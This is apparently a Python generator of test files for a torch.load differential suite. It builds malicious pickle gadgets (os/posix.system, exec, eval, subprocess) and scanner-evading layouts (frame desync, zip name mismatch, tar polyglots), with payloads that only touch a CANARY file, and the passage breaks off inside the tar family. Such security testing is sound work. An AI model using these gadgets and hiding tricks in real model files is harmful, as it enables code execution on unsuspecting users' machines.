"""Files for the differential suite (test_differential.py), built byte by byte.

variants() returns every Variant: attack families and their benign controls.
Nothing here unpickles anything and nothing reads the malicious corpus; the
only pickler used is pickle.dumps, to write the protocol 0-5 forms of a
payload. A payload only ever writes the file CANARY in the working directory
of the reader that runs it (torch.load or pickle.load, in diffrun.py).

How torch 1.13 reads, as far as these families depend on it (Python's C
unpickler reading from a buffered file, see test_differential.py for what is
checked):
- A FRAME whose bytes the unpickler cannot take from what the file's buffer
  already holds (a frame of 8 KiB or more, or one that crosses the end of the
  8 KiB the buffer was filled with) is read with one read(): the file is then
  at the frame's end, whatever STOP says, and the next pickle of the legacy
  format starts there. An opcode whose argument runs past the end of such a
  frame: the text lines (INT, STRING, GLOBAL ...) and the counted strings
  other than bytes (BINUNICODE, SHORT_BINUNICODE, BINSTRING) take their
  argument from the bytes after the frame, what was left of the frame being
  dropped; BINBYTES and SHORT_BINBYTES take the rest of the frame and go on
  after it. A FRAME inside such a frame that asks for more than is left
  drops the rest of the outer frame.
- Smaller frames are served from the buffer: opcodes then cross frame ends
  as if there were no frames, and the next pickle starts after STOP.
- Before anything else, torch.load tries Python's tarfile on every file that
  is not a zip: a first 512-byte block with a valid checksum (signed or
  unsigned sum; octal or base-256 field) is a tar, magic or not, and torch
  then unpickles its members `storages`, `tensors` and `pickle`.
"""
import dataclasses
import hashlib
import json
import pickle
import struct
import zlib

CANARY = "CANARY"
SH = f"touch {CANARY}"
PY = f"open({CANARY!r}, 'w').close()"

BIG = 9000          # a frame this long is read with read(): larger than the 8 KiB buffer


@dataclasses.dataclass
class Variant:
    """One file and what torch 1.13 is known to do with it.

    payload: the file holds code meant to write the canary somewhere.
    runs: torch.load runs it (checked: a variant that stops running its
      payload proves nothing). None: not asserted.
    pickle_runs: the same for the plain pickle reader of diffrun.py.
    loads: a benign control: the tensors torch.load must return,
      [(name, dtype, shape, sha256)]; "error": torch.load must fail.
    """
    name: str
    data: bytes
    payload: bool = False
    runs: object = None
    pickle_runs: object = None
    loads: object = None
    note: str = ""


# ---- pickle opcodes ----------------------------------------------------------------

MARK, STOP, POP, POP_MARK = b"(", b".", b"0", b"1"
NONE, NEWTRUE, NEWFALSE = b"N", b"\x88", b"\x89"
EMPTY_DICT, EMPTY_LIST, EMPTY_TUPLE = b"}", b"]", b")"
SETITEM, SETITEMS, APPEND, APPENDS = b"s", b"u", b"a", b"e"
TUPLE, TUPLE1, TUPLE2, TUPLE3 = b"t", b"\x85", b"\x86", b"\x87"
REDUCE, NEWOBJ, BUILD, BINPERSID = b"R", b"\x81", b"b", b"Q"
MEMOIZE, STACK_GLOBAL = b"\x94", b"\x93"


def proto(n=2):
    return b"\x80" + bytes([n])


def frame(n):
    return b"\x95" + struct.pack("<Q", n)


def uni(s):
    b = s.encode("utf-8") if isinstance(s, str) else s
    return b"X" + struct.pack("<I", len(b)) + b


def short_uni(s):
    b = s.encode("utf-8")
    return b"\x8c" + bytes([len(b)]) + b


def integer(n):
    if 0 <= n < 256:
        return b"K" + bytes([n])
    if 0 <= n < 65536:
        return b"M" + struct.pack("<H", n)
    if -(2 ** 31) <= n < 2 ** 31:
        return b"J" + struct.pack("<i", n)
    raw = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def glob(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def dict_of(items):
    """A dict from (key fragment, value fragment) pairs."""
    if not items:
        return EMPTY_DICT
    return EMPTY_DICT + MARK + b"".join(k + v for k, v in items) + SETITEMS


def str_dict(d):
    return dict_of([(uni(k), v) for k, v in d.items()])


def list_of(frags):
    return EMPTY_LIST + (MARK + b"".join(frags) + APPENDS if frags else b"")


def tuple_of(frags):
    return MARK + b"".join(frags) + TUPLE


def pickle_of(frag, protocol=2):
    return proto(protocol) + frag + STOP


# ---- payloads: fragments that push one value and write the canary on the way ------

def call(module, name, arg):
    return glob(module, name) + uni(arg) + TUPLE1 + REDUCE


GADGETS = {
    # GLOBAL + REDUCE
    "posix_system": call("posix", "system", SH),
    "os_system": call("os", "system", SH),
    "builtins_exec": call("builtins", "exec", PY),
    "builtins_eval": call("builtins", "eval", PY),
    "subprocess_call": glob("subprocess", "call") + list_of([uni("touch"), uni(CANARY)]) +
    TUPLE1 + REDUCE,
    # getattr(__import__('os'), 'system')('touch CANARY')
    "getattr_import": glob("builtins", "getattr") + glob("builtins", "__import__") + uni("os") +
    TUPLE1 + REDUCE + uni("system") + TUPLE2 + REDUCE + uni(SH) + TUPLE1 + REDUCE,
    # NEWOBJ only: tuple.__new__(tuple, map.__new__(map, exec, [code])) runs the map
    "newobj_map": glob("builtins", "tuple") + glob("builtins", "map") + glob("builtins", "exec") +
    EMPTY_LIST + uni(PY) + APPEND + TUPLE2 + NEWOBJ + TUPLE1 + NEWOBJ,
    # BUILD: a first state puts exec in the instance's __dict__ as __setstate__,
    # the second BUILD calls it
    "build_setstate": glob("types", "SimpleNamespace") + EMPTY_TUPLE + NEWOBJ +
    str_dict({"__setstate__": glob("builtins", "exec")}) + BUILD + uni(PY) + BUILD,
    # INST and OBJ (protocol 0 and 1 calls)
    "inst": MARK + b"S'" + SH.encode() + b"'\n" + b"iposix\nsystem\n",
    "obj": MARK + glob("posix", "system") + uni(SH) + b"o",
    # STACK_GLOBAL whose strings come from the memo
    "stack_global_memo": short_uni("posix") + MEMOIZE + short_uni("system") + MEMOIZE +
    POP + POP + b"h\x00h\x01" + STACK_GLOBAL + uni(SH) + TUPLE1 + REDUCE,
}


class _Reduce:
    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


def pickled_payload(protocol):
    """pickle.dumps' own form of posix.system('touch CANARY') at a protocol."""
    import posix
    return pickle.dumps(_Reduce(posix.system, (SH,)), protocol=protocol)


def with_payload(frag, gadget):
    """frag's value, after running gadget (its value is dropped)."""
    return gadget + POP + frag


# ---- tensors and the torch formats -------------------------------------------------

DTYPES = {"uint8": ("ByteStorage", "B", 1, "U8"), "float32": ("FloatStorage", "f", 4, "F32"),
          "int64": ("LongStorage", "q", 8, "I64")}


@dataclasses.dataclass
class T:
    """A contiguous tensor: dtype, shape, raw little-endian bytes."""
    dtype: str
    values: list
    shape: tuple = None

    def __post_init__(self):
        if self.shape is None:
            self.shape = (len(self.values),)

    @property
    def raw(self):
        return struct.pack(f"<{len(self.values)}{DTYPES[self.dtype][1]}", *self.values)

    @property
    def numel(self):
        return len(self.values)


def expect(tensors):
    """What torch must load: [(name, dtype, shape, sha256)] in order."""
    return [[name, t.dtype, list(t.shape), hashlib.sha256(t.raw).hexdigest()]
            for name, t in tensors.items()]


REAL = {"w": T("float32", [1.5, -2.0, 3.25, 4.0])}
DECOY = {"decoy": T("uint8", [7, 7, 7])}


def _stride(shape):
    out, acc = [], 1
    for d in reversed(shape):
        out.insert(0, acc)
        acc *= d
    return out


def rebuild(persid_tuple, t, offset=0):
    """torch._utils._rebuild_tensor_v2(storage, offset, size, stride, False, OrderedDict())."""
    return (glob("torch._utils", "_rebuild_tensor_v2") + MARK + persid_tuple + BINPERSID +
            integer(offset) + tuple_of([integer(d) for d in t.shape]) +
            tuple_of([integer(s) for s in _stride(t.shape)]) + NEWFALSE +
            glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + TUPLE + REDUCE)


def zip_storage(key, t, numel=None):
    return tuple_of([uni("storage"), glob("torch", DTYPES[t.dtype][0]), uni(key), uni("cpu"),
                     integer(t.numel if numel is None else numel)])


def legacy_storage(key, t, numel=None):
    return tuple_of([uni("storage"), glob("torch", DTYPES[t.dtype][0]), uni(key), uni("cpu"),
                     integer(t.numel if numel is None else numel), NONE])


def state_frag(tensors, storage, extra=(), first=()):
    """A dict: the first (key fragment, value fragment) items, name -> tensor
    (storage keys "0", "1", ... in order), then the extra items."""
    items = [(uni(name), rebuild(storage(str(i), t), t)) for i, (name, t) in
             enumerate(tensors.items())]
    return dict_of(list(first) + items + list(extra))


# -- zip --

def build_zip(entries, comment=b""):
    """A stored zip of entries: dicts with name and data, and optionally
    local_name (the local header's name when it differs from the directory's)."""
    out, central = bytearray(), bytearray()
    for e in entries:
        data, name = e["data"], e["name"].encode()
        local = e.get("local_name", e["name"]).encode()
        crc = zlib.crc32(data) & 0xFFFFFFFF
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, crc, len(data),
                           len(data), len(local), 0) + local + data
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0, crc,
                               len(data), len(data), len(name), 0, 0, 0, 0, 0, offset) + name
    cd = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central),
                       cd, len(comment)) + comment
    return bytes(out)


def zip_records(tensors, data_pkl=None, prefix="archive", extra_items=()):
    """The records of a torch zip holding tensors (as (name, bytes))."""
    if data_pkl is None:
        data_pkl = pickle_of(state_frag(tensors, zip_storage, extra_items))
    recs = [(f"{prefix}/data.pkl", data_pkl)]
    recs += [(f"{prefix}/data/{i}", t.raw) for i, t in enumerate(tensors.values())]
    recs.append((f"{prefix}/version", b"3\n"))
    return recs


def torch_zip(tensors, **kw):
    return build_zip([{"name": n, "data": d} for n, d in zip_records(tensors, **kw)])


# -- legacy --

MAGIC = 0x1950A86A20F9469CFC6C
MAGIC_PICKLE = pickle_of(integer(MAGIC))
PROTOCOL_PICKLE = pickle_of(integer(1001))


def sys_info_pickle(pad=None):
    items = {"protocol_version": integer(1001), "little_endian": NEWTRUE,
             "type_sizes": str_dict({"short": integer(2), "int": integer(4), "long": integer(4)})}
    frag = str_dict(items)
    if pad is not None:          # a first key "pad" whose value is the given fragment
        frag = dict_of([(uni("pad"), pad)] + [(uni(k), v) for k, v in items.items()])
    return pickle_of(frag)


def keys_pickle(keys, gadget=None):
    frag = list_of([uni(k) for k in keys])
    return pickle_of(with_payload(frag, gadget) if gadget else frag)


def raw_records(tensors):
    return b"".join(struct.pack("<q", t.numel) + t.raw for t in tensors.values())


def legacy_parts(tensors, gadget=None, keys_gadget=None, extra=()):
    """The five pickles and the raw records of a legacy file."""
    items = list(extra)
    if gadget is not None:
        items.append((uni("x"), gadget))
    obj = pickle_of(state_frag(tensors, legacy_storage, items))
    keys = keys_pickle([str(i) for i in range(len(tensors))], keys_gadget)
    return [MAGIC_PICKLE, PROTOCOL_PICKLE, sys_info_pickle(), obj, keys], raw_records(tensors)


def legacy_file(tensors, **kw):
    pickles, raw = legacy_parts(tensors, **kw)
    return b"".join(pickles) + raw


def framed(pkl, extra_len=0, lead=b""):
    """pkl (PROTO first) with a FRAME after PROTO that holds lead, the rest of
    pkl, and extra_len more bytes (the bytes that follow the pickle)."""
    assert pkl[:1] == b"\x80"
    body = lead + pkl[2:]
    return pkl[:2] + frame(len(body) + extra_len) + body


# -- tar --

def _octal(n, width):
    return (b"%0*o" % (width - 1, n)) + b"\0"


def checksum_field(block, kind="unsigned", fmt="std"):
    """The checksum of a header block (its checksum field as spaces), written as fmt."""
    b = bytearray(block)
    b[148:156] = b" " * 8
    if kind == "unsigned":
        s = sum(b)
    else:
        s = sum(x - 256 if x >= 128 else x for x in b)
    if fmt == "std":            # six digits, NUL, space: what tar writes
        return b"%06o\0 " % s
    if fmt == "seven":
        return b"%07o\0" % s
    if fmt == "spaces":         # no NUL: a leading space, digits, a trailing space
        return b" %06o " % s
    if fmt == "base256":
        return b"\x80" + s.to_bytes(7, "big", signed=True)
    raise ValueError(fmt)


MAGICS = {"v7": b"", "ustar": b"ustar\x0000", "gnu": b"ustar  \0"}


def tar_header(name, size, magic="ustar", kind="unsigned", fmt="std", typeflag=b"0"):
    h = bytearray(512)
    h[0:len(name)] = name
    h[100:108] = _octal(0o644, 8)
    h[108:116] = _octal(0, 8)
    h[116:124] = _octal(0, 8)
    h[124:136] = _octal(size, 12)
    h[136:148] = _octal(0, 12)
    h[156:157] = typeflag
    m = MAGICS[magic]
    h[257:257 + len(m)] = m
    h[148:156] = checksum_field(h, kind, fmt)
    return bytes(h)


def set_header_fields(block, size, magic="v7", kind="unsigned", fmt="std"):
    """Writes tar header fields into a 512-byte block whose bytes 0..100 (the
    name) and whatever lies outside the fields are left as they are."""
    h = bytearray(block)
    h[100:148] = _octal(0o644, 8) + _octal(0, 8) + _octal(0, 8) + _octal(size, 12) + \
        _octal(0, 12)
    h[156:157] = b"0"
    m = MAGICS[magic]
    h[257:257 + len(m)] = m
    h[148:156] = checksum_field(h, kind, fmt)
    return bytes(h)


def tar_member(name, data, **kw):
    return tar_header(name.encode(), len(data), **kw) + data + b"\0" * (-len(data) % 512)


def old_format_members(tensors, where=None, gadget=None):
    """The members of the pre-0.4 tar format (sys_info, storages, tensors,
    pickle) for tensors; where names the member that also runs gadget."""
    def p(frag, member):
        return pickle_of(with_payload(frag, gadget) if where == member else frag)

    storages = p(integer(len(tensors)), "storages")
    for i, t in enumerate(tensors.values()):
        storages += pickle_of(tuple_of([integer(i), uni("cpu"),
                                        glob("torch", DTYPES[t.dtype][0])]))
        storages += struct.pack("<q", t.numel) + t.raw
    storages += pickle_of(EMPTY_LIST)
    tens = p(integer(len(tensors)), "tensors")
    n = len(tensors)
    for i, t in enumerate(tensors.values()):
        tens += pickle_of(tuple_of([integer(n + i), integer(i),
                                    glob("torch", DTYPES[t.dtype][0].replace("Storage",
                                                                             "Tensor"))]))
        tens += struct.pack("<i", len(t.shape)) + b"\0" * 4
        tens += struct.pack(f"<{len(t.shape)}q", *t.shape)
        tens += struct.pack(f"<{len(t.shape)}q", *_stride(t.shape))
        tens += struct.pack("<q", 0)
    obj = p(dict_of([(uni(name), integer(n + i) + BINPERSID)
                     for i, name in enumerate(tensors)]), "pickle")
    sys_info = p(str_dict({"protocol_version": integer(1000), "little_endian": NEWTRUE}),
                 "sys_info")
    return [("sys_info", sys_info), ("storages", storages), ("tensors", tens), ("pickle", obj)]


def tar_archive(members, **kw):
    return b"".join(tar_member(n, d, **kw) for n, d in members) + b"\0" * 1024


# -- safetensors --

def safetensors(tensors, metadata=None):
    header = {}
    if metadata:
        header["__metadata__"] = metadata
    data, off = b"", 0
    for name, t in tensors.items():
        header[name] = {"dtype": DTYPES[t.dtype][3], "shape": list(t.shape),
                        "data_offsets": [off, off + len(t.raw)]}
        data += t.raw
        off += len(t.raw)
    h = json.dumps(header, separators=(",", ":")).encode()
    h += b" " * (-len(h) % 8)
    return struct.pack("<Q", len(h)) + h + data


# ---- the families ------------------------------------------------------------------

def plain_family():
    """(5) plain pickles: data after STOP, pickles back to back, broken after the payload."""
    benign = pickle_of(str_dict({"a": integer(1)}))
    pay = pickle_of(GADGETS["posix_system"])
    v = [Variant("plain/benign", benign, loads="error",
                 note="control: torch wants the magic number first; pickle.load reads it")]
    v.append(Variant("plain/payload", pay, payload=True, runs=True, pickle_runs=True,
                     note="harness check: the plainest payload must run"))
    v.append(Variant("plain/payload_after_stop", benign + pay, payload=True, runs=False,
                     pickle_runs=True))
    v.append(Variant("plain/three_back_to_back", benign + benign + pay, payload=True,
                     runs=False, pickle_runs=True))
    v.append(Variant("plain/garbage_after_stop", benign + b"\0\0\0garbage", payload=False))
    v.append(Variant("plain/broken_after_payload",
                     proto(2) + GADGETS["posix_system"] + b"\xff" + STOP, payload=True, runs=True,
                     pickle_runs=True))
    v.append(Variant("plain/truncated_after_payload",
                     proto(2) + list_of([GADGETS["builtins_exec"]]), payload=True, runs=True,
                     pickle_runs=True))
    v.append(Variant("plain/payload_then_bad_memo",
                     proto(2) + GADGETS["os_system"] + b"h\x09" + STOP, payload=True, runs=True,
                     pickle_runs=True))
    return v


def gadget_family():
    """(6) the classic gadgets, alone, in a torch zip's data.pkl and in a legacy object."""
    v = []
    for name, g in GADGETS.items():
        p = 4 if name == "stack_global_memo" else 2
        v.append(Variant(f"gadget/{name}/plain", pickle_of(g, p), payload=True, runs=True,
                         pickle_runs=True))
        v.append(Variant(f"gadget/{name}/zip",
                         torch_zip(REAL, extra_items=[(uni("x"), g)]), payload=True, runs=True))
        v.append(Variant(f"gadget/{name}/legacy", legacy_file(REAL, gadget=g), payload=True,
                         runs=True))
    for p in range(6):
        v.append(Variant(f"gadget/pickle_dumps/protocol{p}", pickled_payload(p), payload=True,
                         runs=True, pickle_runs=True))
    v.append(Variant("gadget/protocol0_text",
                     b"cposix\nsystem\n(S'" + SH.encode() + b"'\ntR.", payload=True, runs=True))
    v.append(Variant("gadget/protocol1_binary",
                     b"cposix\nsystem\n(" + uni(SH) + b"tR.", payload=True, runs=True))
    v.append(Variant("gadget/control/zip", torch_zip(REAL), loads=expect(REAL),
                     note="control: the container the gadgets ride in loads as built"))
    v.append(Variant("gadget/control/legacy", legacy_file(REAL), loads=expect(REAL)))
    v.append(Variant("gadget/control/legacy_protocol4",
                     b"".join(framed(p[:1] + b"\x04" + p[2:]) for p in legacy_parts(REAL)[0]) +
                     legacy_parts(REAL)[1], loads=expect(REAL),
                     note="control: every pickle framed, each frame ending at its STOP"))
    return v


def zip_family():
    """(4) torch zips: a second pickle in another record, duplicate names, name mismatch."""
    pay = pickle_of(GADGETS["posix_system"])
    recs = zip_records(REAL)
    base = [{"name": n, "data": d} for n, d in recs]
    v = [Variant("zip/control", build_zip(base), loads=expect(REAL))]

    def extra(name, data, **kw):
        return build_zip(base + [{"name": name, "data": data}], **kw)

    v.append(Variant("zip/serialization_id_pickle", extra("archive/.data/serialization_id", pay),
                     payload=True, runs=False, pickle_runs=True))
    v.append(Variant("zip/byteorder_pickle", extra("archive/byteorder", pay), payload=True,
                     runs=False, pickle_runs=True))
    v.append(Variant("zip/extra_record_pickle", extra("archive/extra.pkl", pay), payload=True,
                     runs=False, pickle_runs=True))
    v.append(Variant("zip/extra_record_txt", extra("archive/notes.txt", pay), payload=True,
                     runs=False, pickle_runs=True))
    v.append(Variant("zip/version_pickle",
                     build_zip([e if not e["name"].endswith("/version") else
                                {"name": e["name"], "data": pay} for e in base]),
                     payload=True, runs=False, pickle_runs=True))
    # a storage whose bytes are a pickle: a uint8 tensor holding the payload
    blob = {"w": REAL["w"], "blob": T("uint8", list(pay))}
    v.append(Variant("zip/storage_is_pickle", torch_zip(blob), payload=True, runs=False,
                     pickle_runs=True, loads=expect(blob)))
    blob = {"w": REAL["w"], "blob": T("uint8", list(pay + bytes(range(40))))}
    v.append(Variant("zip/storage_begins_with_pickle", torch_zip(blob), payload=True,
                     runs=False, pickle_runs=True, loads=expect(blob)))
    # the payload before the tensors: a reader without torch's persistent ids reaches it too
    evil_pkl = pickle_of(state_frag(REAL, zip_storage, first=[(uni("x"),
                                                              GADGETS["posix_system"])]))
    other = {"w": T("float32", [9.0, 9.0, 9.0, 9.0])}
    other_pkl = pickle_of(state_frag(other, zip_storage))
    dpkl = [e for e in base if e["name"].endswith("data.pkl")][0]
    rest = [e for e in base if not e["name"].endswith("data.pkl")]
    v.append(Variant("zip/duplicate_payload_last",
                     build_zip(base + [{"name": dpkl["name"], "data": evil_pkl}]), payload=True,
                     runs=False, pickle_runs=True))
    v.append(Variant("zip/duplicate_payload_first",
                     build_zip([{"name": dpkl["name"], "data": evil_pkl}] + base), payload=True,
                     runs=False, pickle_runs=True))
    v.append(Variant("zip/duplicate_benign_differ",
                     build_zip(base + [{"name": dpkl["name"], "data": other_pkl}])))
    v.append(Variant("zip/name_mismatch_payload",
                     build_zip(rest + [{"name": dpkl["name"], "data": evil_pkl,
                                        "local_name": "archive/data.pkX"}]), payload=True,
                     runs=True))
    v.append(Variant("zip/name_mismatch_hidden_local",
                     build_zip(base + [{"name": "archive/extra", "data": pay,
                                        "local_name": "archive/data.pkl"}]), payload=True,
                     runs=False, pickle_runs=False))
    v.append(Variant("zip/name_mismatch_benign",
                     build_zip(rest + [{"name": dpkl["name"], "data": dpkl["data"],
                                        "local_name": "archive/data.pkX"}])))
    return v


# -- (1) frames --

NAMES = ["magic", "protocol", "sys_info", "object", "keys"]
LEAD = uni("L" * BIG) + POP        # makes the frame that holds it longer than the buffer


def frame_after_stop(k, size, payload):
    """A legacy file whose pickle k (0 magic .. 3 object) holds a FRAME that
    runs past its STOP.

    Right after STOP comes a decoy: the rest of a legacy file whose last
    storage runs to the end of the file. At the frame's end comes the real
    rest, with the payload (in the object pickle, or for k = 3 in the keys
    pickle) when asked. size "big": a frame longer than the buffer; "small":
    a short frame in a file that fits in the buffer; "boundary": a short frame
    that crosses the end of the buffer's first 8 KiB (sys_info is padded to
    put it there).

    Returns (data, what a reader that goes on at the frame's end loads, what a
    reader that goes on after STOP loads); None where a value cannot be known
    (a storage torch leaves unread).
    """
    gadget = GADGETS["posix_system"] if payload else None
    sys_info = sys_info_pickle()
    if size == "boundary":
        base = len(MAGIC_PICKLE) + len(PROTOCOL_PICKLE) + len(sys_info_pickle(uni("")))
        sys_info = sys_info_pickle(uni("p" * (8192 - 40 - base)))
    fill = BIG if size == "big" else 64
    if k <= 2:
        pickles, raw = legacy_parts(REAL, gadget=gadget)
        pickles[2] = sys_info
        real_after = b"".join(pickles[k + 1:]) + raw
        n = fill + len(real_after)
        decoy = (b"".join(pickles[k + 1:3]) +
                 pickle_of(state_frag({"decoy": T("uint8", [0] * n)}, legacy_storage)) +
                 keys_pickle(["0"]) + struct.pack("<q", n))
        target = pickles[k]
        head = pickles[:k]
        real = expect(REAL)
        seen_after_stop = [["decoy", "uint8", [n],
                            hashlib.sha256(b"\0" * fill + real_after).hexdigest()]]
    else:
        # the object is shared: "w" and a uint8 "pad" whose storage runs to the
        # end; the decoy lists both storages, the real keys only w's
        real_after = keys_pickle(["0"], gadget) + raw_records({"w": REAL["w"]})
        n = fill + len(real_after)
        decoy_w = T("float32", [0.0] * 4)
        target = pickle_of(state_frag({"w": REAL["w"], "pad": T("uint8", [0] * n)},
                                      legacy_storage))
        decoy = keys_pickle(["0", "1"]) + raw_records({"w": decoy_w}) + struct.pack("<q", n)
        head = [MAGIC_PICKLE, PROTOCOL_PICKLE, sys_info]
        real = [expect(REAL)[0], ["pad", "uint8", [n], None]]
        seen_after_stop = expect({"w": decoy_w}) + [
            ["pad", "uint8", [n], hashlib.sha256(b"\0" * fill + real_after).hexdigest()]]
    data = (b"".join(head) + framed(target, len(decoy) + fill) + decoy + b"\0" * fill +
            real_after)
    return data, real, seen_after_stop


def frame_in_keys(size):
    """The keys pickle's frame swallows the storage records: a reader that goes
    on at the frame's end finds nothing left to read."""
    pickles, raw = legacy_parts(REAL)
    lead = LEAD if size == "big" else b""
    return b"".join(pickles[:4]) + framed(pickles[4], len(raw), lead) + raw


def frame_past_end(k):
    """Pickle k's frame claims 100 bytes more than the file has."""
    pickles, raw = legacy_parts(REAL)
    rest = len(b"".join(pickles[k + 1:]) + raw)
    return (b"".join(pickles[:k]) + framed(pickles[k], rest + 100) + b"".join(pickles[k + 1:]) +
            raw)


# Opcodes whose argument Python's C unpickler reads with _Unpickler_Read: when it
# runs past the end of a frame read whole, the rest of the frame is dropped and
# the argument comes from the bytes after the frame. BINBYTES, SHORT_BINBYTES
# (and BINBYTES8, BYTEARRAY8) read with _Unpickler_ReadInto, which takes the
# rest of the frame first and goes on after it, as a linear reader does.
COUNTED = {"binunicode": (b"X", "<I", True), "short_binunicode": (b"\x8c", "<B", True),
           "binstring": (b"T", "<I", True), "binbytes": (b"B", "<I", False),
           "short_binbytes": (b"C", "<B", False)}


def crossing(op, prefix, torch_frag, linear_frag, suffix, big=True, protocol=4):
    """A pickle in which a counted string's argument runs past the end of a frame.

    A reader that takes the argument from the bytes after the frame (Python,
    for the opcodes that drop, when the frame did not fit in its buffer) runs
    torch_frag; one that reads on as if frames were not there runs
    linear_frag; both push one value:

        PROTO FRAME [lead prefix op<n> k bytes] | S (n bytes) T C suffix STOP
        S = fill + LIN, LIN = POP linear_frag B<len T>   (the last k bytes of S)
        T = POP torch_frag NONE,  C = POP
    """
    code, fmt, _ = COUNTED[op]
    lin = POP + linear_frag + b"B" + struct.pack("<I", len(POP + torch_frag + NONE))
    k = len(lin)
    s = b"s" * 16 + lin
    inside = (LEAD if big else b"") + prefix + code + struct.pack(fmt, len(s)) + b"k" * k
    return (proto(protocol) + frame(len(inside)) + inside + s + POP + torch_frag + NONE + POP +
            suffix + STOP)


def crossing_text(prefix, in_frame, after, suffix, big=True, protocol=4):
    """A pickle in which a text opcode's line runs past the end of a frame."""
    inside = (LEAD if big else b"") + prefix + in_frame
    return proto(protocol) + frame(len(inside)) + inside + after + suffix + STOP


def nested(prefix, torch_frag, linear_frag, suffix, big=True, protocol=4):
    """A FRAME inside a frame asking for more than the outer frame has left:
    Python (when the outer frame did not fit in its buffer) drops the rest of
    the outer frame and goes on after it.

        PROTO FRAME [lead prefix FRAME(L2) D] | T C suffix STOP
        D = linear_frag B<len T>,  T = X<32> POP torch_frag NONE,  C = POP
    """
    t = uni("t" * 32) + POP + torch_frag + NONE   # longer than D: the inner frame asks for more
    after = t + POP + suffix + STOP
    d = linear_frag + b"B" + struct.pack("<I", len(t))
    inside = (LEAD if big else b"") + prefix + frame(len(after)) + d
    return proto(protocol) + frame(len(inside)) + inside + after


def legacy_with_object(obj_pickle):
    pickles, raw = legacy_parts(REAL)
    return b"".join(pickles[:3]) + obj_pickle + b"".join(pickles[4:]) + raw


def obj_prefix():
    """The object pickle of REAL up to the value of a second key "v"."""
    return (EMPTY_DICT + MARK + uni("w") + rebuild(legacy_storage("0", REAL["w"]), REAL["w"]) +
            uni("v"))


def frame_family():
    v = []
    for k in range(4):
        for size in ("big", "small", "boundary"):
            if size == "boundary" and k < 3:
                continue
            for payload in (False, True):
                data, real, after_stop = frame_after_stop(k, size, payload)
                nm = f"frame/after_stop/{NAMES[k]}/{size}/{'payload' if payload else 'benign'}"
                if size == "small":    # served from the buffer: torch goes on after STOP
                    v.append(Variant(nm, data, payload=payload, runs=False, loads=after_stop))
                else:                   # read whole: torch goes on at the frame's end
                    v.append(Variant(nm, data, payload=payload, runs=payload,
                                     loads=None if payload else real))
    for size in ("big", "small"):
        v.append(Variant(f"frame/keys_swallow_storages/{size}", frame_in_keys(size),
                         loads="error" if size == "big" else expect(REAL)))
    for k in range(5):
        v.append(Variant(f"frame/past_end/{NAMES[k]}", frame_past_end(k), loads="error"))
    pickles, raw = legacy_parts(REAL)
    short = pickles[3][:2] + frame(5) + pickles[3][2:]       # a frame that ends early
    v.append(Variant("frame/control/ends_before_stop", b"".join(pickles[:3]) + short +
                     b"".join(pickles[4:]) + raw, loads=expect(REAL),
                     note="control: a frame may end before STOP, the rest unframed"))

    # an opcode's argument across a frame's end
    benign_t, benign_l = str_dict({"torch": integer(1)}), str_dict({"linear": integer(2)})
    g = GADGETS["posix_system"]
    for big in (True, False):
        sz = "big" if big else "small"
        for op, (_, _, drops) in COUNTED.items():
            desync = big and drops
            v.append(Variant(f"frame/cross/{op}/plain/{sz}/payload",
                             crossing(op, b"", g, integer(1), b"", big), payload=True,
                             runs=desync, pickle_runs=desync))
            v.append(Variant(f"frame/cross/{op}/plain/{sz}/benign",
                             crossing(op, b"", benign_t, benign_l, b"", big), loads="error"))
            v.append(Variant(f"frame/cross/{op}/legacy/{sz}/payload",
                             legacy_with_object(crossing(op, obj_prefix(), g, integer(1),
                                                         SETITEMS, big)),
                             payload=True, runs=desync))
            v.append(Variant(f"frame/cross/{op}/legacy/{sz}/benign",
                             legacy_with_object(crossing(op, obj_prefix(), integer(1),
                                                         integer(2), SETITEMS, big)),
                             loads=expect(REAL)))
        v.append(Variant(f"frame/cross/int_line/legacy/{sz}",
                         legacy_with_object(crossing_text(obj_prefix(), b"I12", b"3\n", SETITEMS,
                                                          big)), loads=expect(REAL)))
        v.append(Variant(f"frame/cross/string_line/legacy/{sz}",
                         legacy_with_object(crossing_text(obj_prefix(), b"S'junk", b"'x'\n",
                                                          SETITEMS, big)), loads=expect(REAL)))
        v.append(Variant(f"frame/cross/global_line/legacy/{sz}",
                         legacy_with_object(crossing_text(obj_prefix(), b"ccollections\nOrdered",
                                                          b"Dict\n" + EMPTY_TUPLE + REDUCE,
                                                          SETITEMS, big)),
                         loads="error" if big else expect(REAL)))
        v.append(Variant(f"frame/cross/global_line/plain/{sz}/payload",
                         crossing_text(b"", b"cposix\nsy", b"stem\n" + uni(SH) + TUPLE1 + REDUCE,
                                       b"", big), payload=True, runs=not big,
                         pickle_runs=not big))
        v.append(Variant(f"frame/cross/global_name/plain/{sz}/payload",
                         crossing_text(b"", b"cposix\nsys", b"system\n" + uni(SH) + TUPLE1 +
                                       REDUCE, b"", big), payload=True, runs=big,
                         pickle_runs=big))
        # FRAME inside a frame
        v.append(Variant(f"frame/nested/plain/{sz}/payload",
                         nested(b"", g, integer(1), b"", big), payload=True, runs=big,
                         pickle_runs=big))
        v.append(Variant(f"frame/nested/legacy/{sz}/payload",
                         legacy_with_object(nested(obj_prefix(), g, integer(1), SETITEMS, big)),
                         payload=True, runs=big))
        v.append(Variant(f"frame/nested/legacy/{sz}/benign",
                         legacy_with_object(nested(obj_prefix(), integer(1), integer(2),
                                                   SETITEMS, big)), loads=expect(REAL)))
    # a plain pickle whose frame runs past STOP: the next pickle of a stream
    # starts at the frame's end
    benign = pickle_of(str_dict({"a": integer(1)}))
    pay = pickle_of(g)
    v.append(Variant("frame/after_stop/plain/big/payload",
                     framed(benign, len(pickle_of(str_dict({"a": integer(2)}))) + BIG) +
                     pickle_of(str_dict({"a": integer(2)})) + b"\0" * BIG + pay,
                     payload=True, runs=False, pickle_runs=True))
    return v


# -- (2) tar --

def tar_family():
    v = []
    for magic in ("ustar", "gnu", "v7"):
        v.append(Variant(f"tar/archive/{magic}/benign",
